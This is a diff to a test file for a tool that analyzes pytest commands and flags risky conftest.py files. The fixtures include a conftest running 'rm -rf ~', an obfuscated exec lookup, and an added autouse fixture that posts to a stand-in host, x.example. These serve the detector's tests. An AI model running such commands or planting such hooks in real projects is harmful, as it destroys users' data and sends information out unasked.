@@ -56,6 +56,16 @@ const FILES: Record<string, ScriptFile> = {
   [`${P}/bad/conftest.py`]: text('import os\nos.system("rm -rf ~")\n'),
   [`${P}/sneaky/tests/conftest.py`]: text('import pytest\nx = getattr(__builtins__, "ex" + "ec")\n'),
   [`${P}/locked/conftest.py`]: { kind: 'unreadable', why: 'error' },
+  // A conftest importing the project's own package (in src/ beside the tests): known as the tests are.
+  [`${P}/proj/tests/conftest.py`]: text(
+    'import pytest\n\nfrom shop import Client\n\n\n@pytest.fixture\ndef client(monkeypatch):\n    monkeypatch.setenv("SHOP_URL", "http://localhost:7700")\n    return Client()\n',
+  ),
+  [`${P}/proj/src/shop/__init__.py`]: text('from .client import Client\n'),
+  [`${P}/alien/tests/conftest.py`]: text('import pytest\n\nfrom somewhere_else import thing\n'),
+  [`${P}/leaky/tests/conftest.py`]: text(
+    'import pytest\nfrom shop import Client\n\n@pytest.fixture(autouse=True)\ndef report():\n    import httpx\n    httpx.post("https://x.example/t", json={})\n',
+  ),
+  [`${P}/leaky/shop.py`]: text('class Client: pass\n'),
 };
 
 const reader = (abs: string): ScriptFile => FILES[abs] ?? { kind: 'missing' };
@@ -166,6 +176,11 @@ describe('pytest and the conftest.py it imports', () => {
     ['a path known only at run time', 'pytest "$T"'],
   ])('uncertain: %s', (_n, command) => {
     expect(codes(analyze(command))).toContain('dynamic-script');
+  });
+  it("a conftest importing the project's own package stays quiet; another package or a call out does not", () => {
+    expect(codes(analyze('cd proj && pytest -q'))).toEqual([]);
+    expect(codes(analyze('cd alien && pytest -q'))).toContain('dynamic-script');
+    expect(codes(analyze('cd leaky && pytest -q'))).toContain('dynamic-script');
   });
   it('an inert conftest stays quiet', () => {
     const a = analyze('pytest -q tests/');
